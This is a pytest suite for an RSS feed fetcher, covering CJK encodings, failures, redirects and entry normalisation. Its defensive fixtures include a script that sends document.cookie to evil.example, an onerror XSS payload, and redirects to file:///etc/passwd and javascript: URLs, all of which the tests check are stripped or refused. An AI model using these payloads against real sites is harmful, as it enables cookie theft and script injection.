"""digest.fetch.gather against a real FeedServer on 127.0.0.1 and a real SQLite store.

Every failure case is served next to a healthy feed: the healthy feed's posts
must still be stored, the failing URL must be named in `summary_lines()` and
counted in the store, run after run.
"""

from __future__ import annotations

import gzip
import logging
import socket
import sqlite3
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import httpx
import pytest

from digest.config import Settings, parse_settings
from digest.fetch.gather import FAILED, NOT_MODIFIED, OK, GatherReport, gather
from digest.loopback.feedserver import FeedServer, Route
from digest.models import Post
from digest.state.store import Store

pytestmark = pytest.mark.network

NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
DATA = Path(__file__).parent / "data" / "feedparser"
RSS = "application/rss+xml; charset=utf-8"
ATOM = "application/atom+xml; charset=utf-8"


# -- helpers -------------------------------------------------------------------


def rss(
    title: str, items: list[dict[str, str]], language: str = "", encoding: str = "utf-8"
) -> str:
    lang = f"<language>{language}</language>" if language else ""
    body = "".join(
        "<item>" + "".join(f"<{k}>{escape(v)}</{k}>" for k, v in item.items()) + "</item>"
        for item in items
    )
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel>'
        f"<title>{escape(title)}</title><link>https://example.org/</link>{lang}{body}"
        "</channel></rss>\n"
    )


def item(n: int, title: str, **extra: str) -> dict[str, str]:
    fields = {
        "title": title,
        "link": f"https://example.org/posts/{n}",
        "guid": f"https://example.org/posts/{n}",
        "pubDate": f"Sun, 01 Mar 2026 {n % 24:02d}:00:00 +0000",
        "description": f"<p>Summary {n} of <b>{title}</b></p>",
    }
    fields.update(extra)
    return fields


GOOD = rss("Good feed", [item(1, "Good one"), item(2, "Good two")], language="en").encode()

JAPANESE = rss(
    "AI ニュース",
    [item(10, "東京のスタートアップが日本語LLMを公開"), item(11, "経産省、生成AIの指針を改定")],
    language="ja",
).encode()
KOREAN = rss(
    "AI 뉴스",
    [item(20, "삼성전자, HBM4 양산 앞당긴다"), item(21, "네이버, 하이퍼클로바X 공개")],
    language="ko-KR",
).encode()
ENGLISH = rss(
    "Asia AI",
    [item(30, "Singapore opens a generative AI sandbox"), item(31, "Bengaluru data centres")],
    language="en-US",
).encode()
CHINESE_ATOM = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="zh-CN">'
    "<title>人工智能</title><id>urn:zh</id><updated>2026-03-01T00:00:00Z</updated>"
    '<link href="https://example.cn/"/>'
    "<entry><title>深圳机器人企业完成融资</title><id>urn:zh:1</id>"
    '<link href="https://example.cn/p/1"/><updated>2026-03-01T10:00:00+08:00</updated>'
    '<summary type="html">&lt;p&gt;多家&lt;b&gt;机器人&lt;/b&gt;企业&lt;/p&gt;</summary></entry>'
    "<entry><title>香港推出生成式人工智能沙盒</title><id>urn:zh:2</id>"
    '<link href="https://example.cn/p/2"/><updated>2026-03-01T11:00:00+08:00</updated></entry>'
    "</feed>\n"
).encode()


def make_settings(urls: list[str], **gather_options: Any) -> Settings:
    # The feeds are served on 127.0.0.1, which digest refuses unless allowed.
    options: dict[str, Any] = {"timeout": 5.0, "allow_private": ["127.0.0.0/8", "::1"]}
    options.update(gather_options)
    return parse_settings(
        {"feeds": [{"url": u} for u in urls], "gather": options}, Path("test.toml")
    )


def all_posts(store: Store) -> list[Post]:
    return store.posts_between(datetime(1970, 1, 2, tzinfo=UTC), datetime(2200, 1, 1, tzinfo=UTC))


def by_url(report: GatherReport) -> dict[str, Any]:
    return {r.url: r for r in report.results}


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "db.sqlite3") as s:
        yield s


@pytest.fixture
def server() -> Iterator[FeedServer]:
    with FeedServer() as s:
        yield s


def closed_port() -> int:
    """A loopback port with nothing listening (connections are refused)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# -- the happy path --------------------------------------------------------------


def test_feeds_in_four_languages_are_stored(server: FeedServer, store: Store) -> None:
    server["/ja.xml"] = Route(JAPANESE)
    server["/ko.xml"] = Route(KOREAN)
    server["/en.xml"] = Route(ENGLISH)
    server["/zh.atom"] = Route(CHINESE_ATOM, content_type=ATOM)
    urls = [server.url(p) for p in ("/ja.xml", "/ko.xml", "/en.xml", "/zh.atom")]

    report = gather(make_settings(urls, user_agent="digest-test/1.0"), store, NOW)

    assert [r.status for r in report.results] == [OK] * 4
    assert [r.url for r in report.results] == urls  # config order
    assert [r.entries for r in report.results] == [2, 2, 2, 2]
    assert report.new_posts == 8 and store.count_posts() == 8
    assert [r.title for r in report.results] == ["AI ニュース", "AI 뉴스", "Asia AI", "人工智能"]
    assert not report.failed and not report.all_failed
    assert all(r.seconds > 0 and r.error is None and r.warning is None for r in report.results)

    posts = {p.title: p for p in all_posts(store)}
    ja = posts["東京のスタートアップが日本語LLMを公開"]
    assert ja.language == "ja" and ja.feed_url == urls[0]
    assert ja.summary == "Summary 10 of 東京のスタートアップが日本語LLMを公開"
    assert ja.published == datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
    assert posts["삼성전자, HBM4 양산 앞당긴다"].language == "ko-kr"
    assert posts["Singapore opens a generative AI sandbox"].language == "en-us"
    zh = posts["深圳机器人企业完成融资"]
    assert (zh.language, zh.summary, zh.url) == (
        "zh-cn",
        "多家机器人企业",
        "https://example.cn/p/1",
    )
    assert zh.published == datetime(2026, 3, 1, 2, 0, tzinfo=UTC)

    assert {h["user-agent"] for _, h in server.request_headers} == {"digest-test/1.0"}
    assert store.feed_state(urls[0]).title == "AI ニュース"
    assert report.summary_lines() == [
        "4 feeds: 4 fetched, 0 not modified, 0 failed; 8 entries, 8 new posts"
    ]


def test_second_run_is_conditional_and_idempotent(server: FeedServer, store: Store) -> None:
    server["/ja.xml"] = Route(JAPANESE)
    server["/zh.atom"] = Route(CHINESE_ATOM, content_type=ATOM)
    urls = [server.url("/ja.xml"), server.url("/zh.atom")]
    settings = make_settings(urls)

    first = gather(settings, store, NOW)
    assert first.new_posts == 4
    states = {u: store.feed_state(u) for u in urls}
    assert states[urls[0]].etag == server["/ja.xml"].etag
    assert states[urls[0]].last_modified

    server.reset_log()
    second = gather(settings, store, NOW)
    assert [r.status for r in second.results] == [NOT_MODIFIED, NOT_MODIFIED]
    assert second.new_posts == 0 and [r.entries for r in second.results] == [0, 0]
    assert store.count_posts() == 4
    assert sorted(status for _, _, status in server.requests) == [304, 304]
    sent = dict(server.request_headers)
    assert sent["/ja.xml"]["if-none-match"] == states[urls[0]].etag
    assert sent["/ja.xml"]["if-modified-since"] == states[urls[0]].last_modified
    for url in urls:  # a 304 keeps the validators
        after = store.feed_state(url)
        assert (after.etag, after.last_modified) == (states[url].etag, states[url].last_modified)
        assert after.failures == 0
    assert not second.all_failed
    assert second.summary_lines()[-1].startswith("2 feeds: 0 fetched, 2 not modified, 0 failed")

    # The feed changes: one new entry, new validators stored, the other stays 304.
    changed = rss("AI ニュース", [item(12, "大阪で自動運転の実証実験"), item(10, "東京の…")])
    server["/ja.xml"] = Route(changed.encode())
    third = gather(settings, store, NOW)
    assert [r.status for r in third.results] == [OK, NOT_MODIFIED]
    assert third.new_posts == 1 and store.count_posts() == 5
    assert store.feed_state(urls[0]).etag == server["/ja.xml"].etag != states[urls[0]].etag
    # A post seen again follows the feed's edits (title) but keeps its identity.
    titles = {p.post_id: p.title for p in all_posts(store)}
    assert titles["https://example.org/posts/10"] == "東京の…"


def test_feed_without_validators_is_refetched_but_not_duplicated(
    server: FeedServer, store: Store
) -> None:
    server["/plain.xml"] = Route(KOREAN, validators=False)
    settings = make_settings([server.url("/plain.xml")])
    assert gather(settings, store, NOW).new_posts == 2
    again = gather(settings, store, NOW)
    assert again.results[0].status == OK and again.results[0].entries == 2
    assert again.new_posts == 0 and store.count_posts() == 2
    assert "if-none-match" not in server.request_headers[-1][1]


@pytest.mark.parametrize(
    ("encoding", "header"),
    [
        ("Shift_JIS", "application/rss+xml"),
        ("EUC-JP", "application/xml"),
        ("EUC-KR", "application/rss+xml"),
        ("GB2312", "application/rss+xml"),
        ("Big5", "application/rss+xml"),
        ("Shift_JIS", "text/xml; charset=Shift_JIS"),  # declared by HTTP as well
    ],
)
def test_legacy_cjk_encodings_declared_correctly(
    server: FeedServer, store: Store, encoding: str, header: str
) -> None:
    titles = {
        "Shift_JIS": "東京のAI企業、資金調達",
        "EUC-JP": "大阪で自動運転の実証",
        "EUC-KR": "서울 AI 반도체 투자",
        "GB2312": "深圳人工智能产业集群",
        "Big5": "香港人工智慧沙盒",
    }
    title = titles[encoding]
    body = rss("legacy", [item(1, title)], encoding=encoding).encode(encoding)
    server["/legacy.xml"] = Route(body, content_type=header)
    report = gather(make_settings([server.url("/legacy.xml")]), store, NOW)
    assert report.results[0].status == OK and report.results[0].warning is None
    assert [p.title for p in all_posts(store)] == [title]


CORPUS_TITLES = {
    "illformed__chardet__shiftjis.xml": "DrecomRSSに記事投稿が反映されない…",
    "illformed__chardet__eucjp.xml": "ゲーム三昧な正月",
    "illformed__chardet__euckr.xml": "EUC-KR 에서 TypeKey 한글닉네임 표시하기",
    "illformed__chardet__gb2312.xml": "不归移民漫画系列：专业工作",
}


def test_feedparser_test_suite_charset_files(server: FeedServer, store: Store) -> None:
    urls = [u for u in server.serve_directory(DATA) if u.endswith(".xml")]
    report = by_url(gather(make_settings(urls), store, NOW))

    # Big5 declared correctly, a valid feed with no entries: ok, nothing to store.
    big5 = report[server.url("/encoding__big5.xml")]
    assert (big5.status, big5.entries, big5.warning) == (OK, 0, None)
    # EUC-KR declared correctly; its only entry has neither title nor link.
    euckr = report[server.url("/encoding__euc-kr-item.xml")]
    assert (euckr.status, euckr.entries, euckr.new_posts) == (OK, 1, 0)
    assert report[server.url("/encoding__euc-kr.xml")].title == "\ub144"
    # Undeclared legacy encodings: detected, entries kept, the feed flagged.
    for name in CORPUS_TITLES:
        result = report[server.url(f"/{name}")]
        assert result.status == OK and result.new_posts == 1
        assert result.warning and "ill-formed feed, entries recovered" in result.warning
        assert "declared as utf-8" in result.warning
    # Big5 without declaration: only a feed title (source damage '?' kept as is).
    assert report[server.url("/illformed__chardet__big5.xml")].title.startswith("我希望??很容易")
    assert {p.title for p in all_posts(store)} == set(CORPUS_TITLES.values())


@pytest.mark.parametrize("content_type", ["application/xml; charset=iso-8859-1", "text/xml"])
def test_feedparser_test_suite_files_behind_a_wrong_http_charset(
    server: FeedServer, store: Store, content_type: str
) -> None:
    # A server default charset in front of every file: ISO-8859-1 decodes any
    # bytes without an error, so feedparser alone would store mojibake.
    urls = []
    for name in [*CORPUS_TITLES, "encoding__euc-kr.xml", "illformed__chardet__big5.xml"]:
        server[f"/{name}"] = Route((DATA / name).read_bytes(), content_type=content_type)
        urls.append(server.url(f"/{name}"))
    report = by_url(gather(make_settings(urls), store, NOW))

    assert {p.title for p in all_posts(store)} == set(CORPUS_TITLES.values())
    assert all(r.status == OK for r in report.values())
    assert report[server.url("/encoding__euc-kr.xml")].title == "\ub144"
    assert report[server.url("/illformed__chardet__big5.xml")].title.startswith("我希望")
    for name in CORPUS_TITLES:
        warning = report[server.url(f"/{name}")].warning or ""
        assert "declared" in warning


MISLABELLED = {
    # (encoding, XML declaration, Content-Type, <language>)
    "Shift_JIS behind an Apache default": (
        "shift_jis", None, "application/rss+xml; charset=ISO-8859-1", "ja",
    ),
    "EUC-JP declared as UTF-8": ("euc_jp", "utf-8", "application/rss+xml", ""),
    "EUC-KR with nothing declared": ("euc_kr", None, "application/xml", "ko"),
    "GB2312 declared as UTF-8 by HTTP": ("gb2312", None, "text/xml; charset=utf-8", ""),
    "Big5 declared as Latin-1": ("big5", "iso-8859-1", "application/rss+xml", "zh-tw"),
    "Big5 behind windows-1252, no language": (
        "big5", None, "application/rss+xml; charset=windows-1252", "",
    ),
}  # fmt: skip
MISLABELLED_TITLES = {
    "shift_jis": ["東京のAI企業、資金調達", "経産省、生成AIの指針を改定"],
    "euc_jp": ["大阪で自動運転の実証", "国内GPUクラウドの需要が急拡大"],
    "euc_kr": ["서울 AI 반도체 투자", "네이버, 하이퍼클로바X 공개"],
    "gb2312": ["深圳人工智能产业集群", "北京发布大模型备案新规"],
    "big5": ["香港人工智慧沙盒", "台積電擴大先進封裝產能"],
}
MISLABELLED_FEED_TITLES = {
    "shift_jis": "AI ニュース",
    "euc_jp": "AI ニュース",
    "euc_kr": "AI 뉴스",
    "gb2312": "AI 新闻",
    "big5": "AI 新聞",
}


@pytest.mark.parametrize("case", list(MISLABELLED))
def test_mislabelled_cjk_feeds_are_decoded_correctly(
    server: FeedServer, store: Store, case: str
) -> None:
    encoding, declaration, content_type, language = MISLABELLED[case]
    titles = MISLABELLED_TITLES[encoding]
    feed_title = MISLABELLED_FEED_TITLES[encoding]
    xml = rss(feed_title, [item(i, t) for i, t in enumerate(titles)], language=language)
    if declaration is None:
        xml = xml.split("\n", 1)[1]  # no XML declaration at all
    else:
        xml = xml.replace('encoding="utf-8"', f'encoding="{declaration}"')
    server["/cjk.xml"] = Route(xml.encode(encoding), content_type=content_type)
    server["/good.xml"] = Route(GOOD)
    report = gather(make_settings([server.url("/cjk.xml"), server.url("/good.xml")]), store, NOW)

    result = report.results[0]
    assert result.status == OK and result.new_posts == 2
    assert result.title == feed_title
    assert result.warning and "declared" in result.warning
    posts = {p.title: p for p in all_posts(store)}
    assert set(posts) == {*titles, "Good one", "Good two"}
    assert posts[titles[0]].summary == f"Summary 0 of {titles[0]}"
    assert any(line.startswith(f"warning {result.url}:") for line in report.summary_lines())


def test_garbled_entries_are_left_out_and_the_feed_flagged(
    server: FeedServer, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    # Valid UTF-8, but one entry was double-encoded upstream (UTF-8 read as
    # windows-1252 and saved again): no decoding of the body can fix it.
    mojibake = "東京のAI企業、資金調達".encode().decode("cp1252", errors="replace")
    xml = rss("AI ニュース", [item(1, "大阪で自動運転の実証"), item(2, mojibake)], language="ja")
    server["/mixed.xml"] = Route(xml.encode())
    report = gather(make_settings([server.url("/mixed.xml")]), store, NOW)

    result = report.results[0]
    assert (result.status, result.entries, result.new_posts) == (OK, 2, 1)
    assert result.warning == "1 of 2 entries left out: garbled text"
    assert [p.title for p in all_posts(store)] == ["大阪で自動運転の実証"]


def test_a_feed_whose_every_entry_is_garbled_fails(server: FeedServer, store: Store) -> None:
    mojibake = ["ã‚¢ã‚¸ã‚¢ã®AIæ‹ ç‚¹", "Itâ€™s Ã©tÃ© in SÃ£o Paulo"]
    server["/bad.xml"] = Route(rss("x", [item(i, t) for i, t in enumerate(mojibake)]).encode())
    server["/good.xml"] = Route(GOOD)
    urls = [server.url("/bad.xml"), server.url("/good.xml")]
    report = by_url(gather(make_settings(urls), store, NOW))

    bad = report[urls[0]]
    assert bad.status == FAILED and bad.error
    assert bad.error.startswith("not a feed: garbled text in all 2 entries")
    assert {p.title for p in all_posts(store)} == {"Good one", "Good two"}
    assert store.feed_state(urls[0]).failures == 1


def test_without_a_trustworthy_decoding_only_ascii_entries_are_kept(
    server: FeedServer, store: Store
) -> None:
    noise = bytes([0x81, 0xFF, 0x8D, 0x80, 0x90, 0xFE, 0x9D, 0xFF]) * 10
    body = rss("feed", [item(1, "Plain ASCII story"), item(2, "NOISE")]).encode()
    body = body.replace(b"NOISE", noise, 1)
    server["/noise.xml"] = Route(body)
    report = gather(make_settings([server.url("/noise.xml")]), store, NOW)

    result = report.results[0]
    assert result.status == OK and result.new_posts == 1
    assert result.warning and "charset unknown" in result.warning
    assert "1 of 2 entries left out: garbled text" in result.warning
    assert [p.title for p in all_posts(store)] == ["Plain ASCII story"]


def test_asian_dates_are_stored_in_utc(server: FeedServer, store: Store) -> None:
    dates = {
        1: "Mon, 02 Mar 2026 08:00:00 KST",  # feedparser alone: 08:00 UTC
        2: "2026年3月1日 23:30",  # feedparser alone: 1 March (or this month) UTC
        3: "2026/3/2 07:15",
    }
    items = [item(n, f"記事{n}", pubDate=d) for n, d in dates.items()]
    server["/ko.xml"] = Route(rss("뉴스", items, language="ko").encode())
    gather(make_settings([server.url("/ko.xml")]), store, NOW)

    published = {p.title: p.published for p in all_posts(store)}
    assert published == {
        "記事1": datetime(2026, 3, 1, 23, 0, tzinfo=UTC),
        "記事2": datetime(2026, 3, 1, 14, 30, tzinfo=UTC),
        "記事3": datetime(2026, 3, 1, 22, 15, tzinfo=UTC),
    }


# -- failures: each next to a healthy feed --------------------------------------

HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head>"
    b"<body><h1>Please sign in</h1><p>This feed has moved.</p></body></html>"
)
MAX_BYTES = 64_000

FAILURES: dict[str, tuple[Route, str]] = {
    "404": (
        Route(b"not found", status=404, content_type="text/plain"),
        "failed: HTTP 404 Not Found",
    ),
    "500": (Route(b"oops", status=500, content_type="text/plain"), "failed: HTTP 500"),
    "403": (Route(b"", status=403, content_type="text/plain"), "failed: HTTP 403 Forbidden"),
    "html page": (
        Route(HTML_PAGE, content_type="text/html; charset=utf-8"),
        "not a feed: served an HTML page, with no feed link in it",
    ),
    "html page sent as rss": (
        Route(HTML_PAGE),
        "not a feed: served an HTML page, with no feed link in it",
    ),
    "malformed xml": (
        Route(b"<?xml version='1.0'?><rss version='2.0'><channel><item><title>x</ti"),
        "not a feed: malformed feed, no entries recovered: line 1",
    ),
    "xml but not a feed": (
        Route(b"<?xml version='1.0'?><settings><a/></settings>", content_type="application/xml"),
        "not a feed: not an RSS or Atom feed",
    ),
    "json": (
        Route(b'{"items": []}', content_type="application/json"),
        "not a feed: malformed feed",
    ),
    "empty body": (Route(b""), "not a feed: empty body"),
    "blank body": (Route(b" \r\n\t\n"), "not a feed: empty body"),
    "oversize by content-length": (
        Route(rss("big", [item(i, "x" * 200) for i in range(400)]).encode()),
        f"failed: response larger than {MAX_BYTES} bytes",
    ),
    "oversize after decompression": (
        Route(
            gzip.compress(GOOD[:-20] + b" " * 2_000_000 + GOOD[-20:]),
            headers={"Content-Encoding": "gzip"},
        ),
        f"failed: response larger than {MAX_BYTES} bytes",
    ),
    "redirect to file:": (
        Route(b"", status=302, headers={"Location": "file:///etc/passwd"}),
        "refused: redirect to a non-http(s) URL: file:///etc/passwd",
    ),
    "redirect to javascript:": (
        Route(b"", status=301, headers={"Location": "javascript:alert(1)"}),
        "refused: redirect to a non-http(s) URL",
    ),
    "redirect to ftp:": (
        Route(b"", status=307, headers={"Location": "ftp://127.0.0.1/feed.xml"}),
        "refused: redirect to a non-http(s) URL",
    ),
    "redirect loop": (
        Route(b"", status=302, headers={"Location": "/bad"}),
        "failed: too many redirects (more than 2)",
    ),
    "feedparser crashes": (  # a real feedparser bug: a lone surrogate character reference
        Route(b'<rss version="2.0"><channel><item><title>a &#xD800; b</title></item></channel>'),
        "failed: unexpected error: UnicodeEncodeError",
    ),
    "timeout": (Route(GOOD, delay=3.0), "failed: timed out after 0.5 s"),
}


@pytest.mark.parametrize("case", list(FAILURES))
def test_one_failing_feed_never_stops_the_others(
    server: FeedServer, store: Store, case: str, caplog: pytest.LogCaptureFixture
) -> None:
    route, reason = FAILURES[case]
    server["/good.xml"] = Route(GOOD)
    server["/bad"] = route
    good, bad = server.url("/good.xml"), server.url("/bad")
    timeout = 0.5 if case == "timeout" else 5.0
    settings = make_settings([bad, good], timeout=timeout, max_bytes=MAX_BYTES, max_redirects=2)

    with caplog.at_level(logging.WARNING, logger="digest.fetch.gather"):
        started = time.monotonic()
        report = gather(settings, store, NOW)
        elapsed = time.monotonic() - started

    results = by_url(report)
    assert results[good].status == OK and results[good].new_posts == 2
    assert store.count_posts() == 2  # the healthy feed's posts are stored
    failed = results[bad]
    assert failed.status == FAILED
    assert failed.error is not None and reason in failed.error
    assert "Traceback" not in failed.error
    assert (failed.entries, failed.new_posts, failed.title) == (0, 0, "")
    assert report.failed == [failed] and report.ok == [results[good]]
    assert not report.all_failed
    lines = report.summary_lines()
    shown = reason.removeprefix("failed: ")  # the line's FAILED label says it
    assert any(line == f"FAILED  {bad}: {failed.error.removeprefix('failed: ')}" for line in lines)
    assert any(bad in line and shown in line for line in lines), lines
    assert "1 failed" in lines[-1]
    assert any(bad in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)
    state = store.feed_state(bad)
    assert state.failures == 1 and state.last_error and reason in state.last_error
    assert store.feed_state(good).failures == 0
    if case == "timeout":
        assert elapsed < 2.5  # the slow server was not waited for

    # The next run fails again: consecutive failures are counted.
    again = gather(settings, store, NOW)
    assert by_url(again)[bad].status == FAILED
    assert store.feed_state(bad).failures == 2
    assert store.count_posts() == 2


def test_a_web_page_that_links_its_feed_names_it_and_is_not_followed(
    server: FeedServer, store: Store
) -> None:
    # What a user pastes most often: the site's page, not its feed.
    server["/news/"] = Route(
        b"<!DOCTYPE html><html><head><title>News</title>"
        b'<link rel="stylesheet" href="/s.css">'
        b'<link rel="alternate" type="application/rss+xml" title="RSS" href="/news/rss.xml">'
        b'<link rel="alternate" type="application/atom+xml" href="https://elsewhere.example/a">'
        b"</head><body>...</body></html>",
        content_type="text/html; charset=utf-8",
    )
    server["/news/rss.xml"] = Route(GOOD)
    page = server.url("/news/")
    report = gather(make_settings([page]), store, NOW)
    failed = by_url(report)[page]
    assert failed.status == FAILED
    assert failed.error == (
        f"not a feed: served an HTML page that links its feed: {server.url('/news/rss.xml')} "
        "or https://elsewhere.example/a (put that URL in the config)"
    )
    assert server.hits("/news/rss.xml") == []  # named, never fetched on our own
    assert store.count_posts() == 0


def test_connection_refused_is_a_failure(server: FeedServer, store: Store) -> None:
    server["/good.xml"] = Route(GOOD)
    refused = f"http://127.0.0.1:{closed_port()}/feed.xml"
    report = gather(make_settings([refused, server.url("/good.xml")]), store, NOW)
    results = by_url(report)
    assert results[refused].status == FAILED
    assert results[refused].error == "failed: cannot connect"
    assert any(refused in line for line in report.summary_lines())
    assert store.count_posts() == 2
    assert store.feed_state(refused).failures == 1


def test_body_naming_a_local_file_is_not_read(
    server: FeedServer, store: Store, tmp_path: Path
) -> None:
    # feedparser, handed a bare string or bytes, tries it as a file path first.
    secret = tmp_path / "secret-feed.xml"
    secret.write_bytes(rss("local", [item(1, "LOCAL SECRET")]).encode())
    server["/path.xml"] = Route(str(secret).encode())
    report = gather(make_settings([server.url("/path.xml")]), store, NOW)
    assert report.results[0].status == FAILED
    assert store.count_posts() == 0


def test_all_failed_only_when_there_were_feeds_and_every_one_failed(
    server: FeedServer, store: Store
) -> None:
    server["/404.xml"] = Route(b"", status=404)
    server["/empty.xml"] = Route(b"")
    server["/good.xml"] = Route(GOOD)
    bad = [server.url("/404.xml"), server.url("/empty.xml")]

    every = gather(make_settings(bad), store, NOW)
    assert every.all_failed and len(every.failed) == 2 and every.ok == []
    assert [line.split()[1].rstrip(":") for line in every.summary_lines()[:2]] == bad

    assert not gather(make_settings([*bad, server.url("/good.xml")]), store, NOW).all_failed
    none = gather(make_settings([]), store, NOW)
    assert none.results == () and not none.all_failed and none.new_posts == 0
    assert none.summary_lines() == [
        "0 feeds: 0 fetched, 0 not modified, 0 failed; 0 entries, 0 new posts"
    ]
    # A run where nothing changed is not a failure.
    gather(make_settings([server.url("/good.xml")]), store, NOW)
    unchanged = gather(make_settings([server.url("/good.xml")]), store, NOW)
    assert unchanged.results[0].status == NOT_MODIFIED and not unchanged.all_failed


# -- documents that are odd but usable ---------------------------------------------


def test_ill_formed_feed_with_entries_is_kept_with_a_warning(
    server: FeedServer, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    broken = (
        b'<?xml version="1.0"?><rss version="2.0"><channel><title>Sloppy</title>'
        b"<item><title>First</title><link>https://sloppy.example/1</link></item>"
        b"<item><title>Second &nbsp; entity</title><link>https://sloppy.example/2</link></item>"
        b"</channel>"  # no </rss>, and &nbsp; is not an XML entity
    )
    server["/sloppy.xml"] = Route(broken)
    url = server.url("/sloppy.xml")
    with caplog.at_level(logging.WARNING, logger="digest.fetch.gather"):
        report = gather(make_settings([url]), store, NOW)
    [result] = report.results
    assert result.status == OK and result.entries == 2 and result.new_posts == 2
    assert result.warning and result.warning.startswith("ill-formed feed, entries recovered")
    assert "undefined entity" in result.warning
    assert any(url in line and "ill-formed" in line for line in report.summary_lines())
    assert any(url in r.getMessage() and "ill-formed" in r.getMessage() for r in caplog.records)
    assert store.feed_state(url).failures == 0


def test_valid_feed_with_no_entries_is_ok(server: FeedServer, store: Store) -> None:
    server["/quiet.xml"] = Route(rss("Quiet", []).encode())
    [result] = gather(make_settings([server.url("/quiet.xml")]), store, NOW).results
    assert (result.status, result.entries, result.warning, result.title) == (OK, 0, None, "Quiet")


def test_redirects_within_the_limit_are_followed(server: FeedServer, store: Store) -> None:
    feed = rss("Moved", [item(1, "Relative", link="posts/1.html", guid="p1")]).encode()
    server["/a"] = Route(b"", status=301, headers={"Location": "/b"})
    server["/b"] = Route(b"", status=308, headers={"Location": server.url("/new/feed.xml")})
    server["/new/feed.xml"] = Route(feed)
    server["/temp"] = Route(b"", status=302, headers={"Location": "new/feed.xml"})
    urls = [server.url("/a"), server.url("/temp")]
    report = by_url(gather(make_settings(urls, max_redirects=2), store, NOW))

    moved, temporary = report[urls[0]], report[urls[1]]
    assert moved.status == OK and temporary.status == OK
    assert moved.warning == (
        f"moved permanently: {urls[0]} → {server.url('/new/feed.xml')}; "
        "fetching the new address from now on (update the config)"
    )
    assert temporary.warning is None  # a temporary redirect is not a reason to edit the config
    # Relative links resolve against the final URL, not the configured one.
    urls_stored = {p.url for p in all_posts(store)}
    assert urls_stored == {server.url("/new/posts/1.html")}


# -- what ends up in the store ------------------------------------------------------


def test_entries_are_normalised_on_the_way_in(
    server: FeedServer, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    hostile = (
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        "<style>body{display:none}</style><img src=x onerror=alert(1)>"
        "<p>Visible <b>text</b></p><!-- secret comment -->"
    )
    items = [
        item(
            1,
            "Line one\r\nline two\rline three",
            link="https://news.example/a?utm_source=rss&id=7&fbclid=X#frag",
        ),
        item(2, "Relative link", link="../articles/2.html"),
        {"title": "No date at all", "link": "https://news.example/3"},
        item(4, "From the future", pubDate="Tue, 01 Jan 2036 00:00:00 +0000"),
        item(5, "Hostile summary", description=hostile),
    ]
    server["/feeds/main.xml"] = Route(rss("Normalise me", items).encode())
    url = server.url("/feeds/main.xml")
    with caplog.at_level(logging.WARNING):
        report = gather(make_settings([url]), store, NOW)
    assert report.results[0].new_posts == 5
    posts = {p.post_id: p for p in all_posts(store)}

    crlf = posts["https://example.org/posts/1"]
    assert crlf.title == "Line one line two line three"
    assert crlf.url == "https://news.example/a?id=7"
    assert posts["https://example.org/posts/2"].url == server.url("/articles/2.html")
    undated = posts["https://news.example/3"]  # no guid: the canonical link is the id
    assert undated.published == NOW and undated.date_from_feed is False
    future = posts["https://example.org/posts/4"]
    assert future.published == NOW and future.date_from_feed is False
    assert any(url in r.getMessage() and "future" in r.getMessage() for r in caplog.records)
    clean = posts["https://example.org/posts/5"]
    assert clean.summary == "Visible text"
    for post in posts.values():
        assert "\n" not in post.title and "\r" not in post.title
        assert "evil" not in post.summary and "script" not in post.summary
        assert "<" not in post.summary and "display" not in post.summary


# -- concurrency and the parser pool ---------------------------------------------


def test_feeds_are_fetched_concurrently_within_the_limit(server: FeedServer, store: Store) -> None:
    for n in range(6):
        server[f"/slow{n}.xml"] = Route(
            rss(f"slow {n}", [item(n, f"post {n}")]).encode(), delay=0.3
        )
    urls = [server.url(f"/slow{n}.xml") for n in range(6)]

    # One host serves them all: no limit per host here, only `concurrency`.
    started = time.monotonic()
    report = gather(make_settings(urls, concurrency=6, per_host=0), store, NOW)
    assert time.monotonic() - started < 1.2  # one after another would take 1.8 s
    assert len(report.ok) == 6 and server.max_in_flight == 6

    server.reset_log()
    started = time.monotonic()
    gather(make_settings(urls, concurrency=2, per_host=0), store, NOW)  # all 304, still slow
    assert time.monotonic() - started >= 0.85  # three rounds of two
    assert server.max_in_flight == 2


def test_one_host_gets_per_host_feeds_at_once_and_other_hosts_go_on(
    server: FeedServer, store: Store
) -> None:
    # Six feeds on one host and two on another (the same server, named two ways).
    for n in range(8):
        server[f"/slow{n}.xml"] = Route(
            rss(f"slow {n}", [item(n, f"post {n}")]).encode(), delay=0.3
        )
    busy = [server.url(f"/slow{n}.xml") for n in range(6)]
    other = [server.url(f"/slow{n}.xml").replace("127.0.0.1", "localhost") for n in (6, 7)]
    assert all(u.startswith("http://localhost:") for u in other)

    started = time.monotonic()
    report = gather(make_settings(busy + other, concurrency=8, per_host=2), store, NOW)
    took = time.monotonic() - started
    assert len(report.ok) == 8
    # Two of the busy host's at a time, three rounds; the other host's two run
    # beside its first round, never waiting behind it.
    assert server.max_in_flight == 4
    assert 0.85 <= took < 1.5
    finished = {r.url: r.seconds for r in report.results}
    assert all(finished[u] < 0.6 for u in other)

    # A feed that moved is its new host's: asked there first from then on. Two
    # of the busy host's feeds move to the other host for good (301).
    for n in (4, 5):
        server[f"/old{n}.xml"] = Route(b"", status=301, headers={"Location": other[n - 4]})
    moving = busy[:4] + [server.url(f"/old{n}.xml") for n in (4, 5)]
    gather(make_settings(moving, concurrency=8, per_host=2), store, NOW)  # learns the moves
    server.reset_log()
    started = time.monotonic()
    gather(make_settings(moving, concurrency=8, per_host=2), store, NOW)
    assert server.max_in_flight == 4  # two on each host
    assert time.monotonic() - started < 0.85  # two rounds, not three

    # The default is polite too, and `concurrency` still bounds it.
    assert make_settings(busy).gather.per_host == 4
    server.reset_log()
    gather(make_settings(busy, concurrency=3, per_host=5), store, NOW)
    assert server.max_in_flight == 3


